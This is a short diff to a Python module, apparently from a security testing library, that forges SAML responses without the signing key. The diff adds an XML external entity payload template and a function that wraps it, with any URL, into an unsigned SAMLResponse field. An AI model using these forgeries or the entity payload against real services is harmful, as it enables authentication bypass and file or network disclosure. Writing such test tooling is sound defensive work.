@@ -1,4 +1,4 @@
-"""Forged assertions: what an attacker can do to a SAML response without the key that signs it."""
+"""Forged assertions: what an attacker can do to a SAML response without the key that signs it, and a message that nobody signed."""
 
 from __future__ import annotations
 
@@ -12,12 +12,18 @@ from runbook_lib.webclient.response import Form
 
 SIGNATURE, NAME_ID = "{http://www.w3.org/2000/09/xmldsig#}Signature", "{urn:oasis:names:tc:SAML:2.0:assertion}NameID"
 EXTENSIONS = "{urn:oasis:names:tc:SAML:2.0:protocol}Extensions"
+ENTITY = '<!DOCTYPE r [<!ENTITY e SYSTEM "{}">]><p:Response xmlns:p="urn:oasis:names:tc:SAML:2.0:protocol" ID="_e" Version="2.0">&e;</p:Response>'
 
 
 def forged(form: Form, how: str) -> Form:
     """Return the form with its assertion forged, which takes no signing key. `how`: a word of `FORGERIES`. Raises ValueError where it cannot be."""
     message = etree.fromstring(base64.b64decode(form.fields["SAMLResponse"]), etree.XMLParser(resolve_entities=False, no_network=True))
     return replace(form, fields={**form.fields, "SAMLResponse": base64.b64encode(etree.tostring(FORGERIES[how](message))).decode()})
+
+
+def naming(url: str) -> dict[str, str]:
+    """Return the fields of an unsigned SAML response whose text is an external entity at `url`."""
+    return {"SAMLResponse": base64.b64encode(ENTITY.format(url).encode()).decode()}
 
 
 def _renamed(message: etree._Element) -> etree._Element:
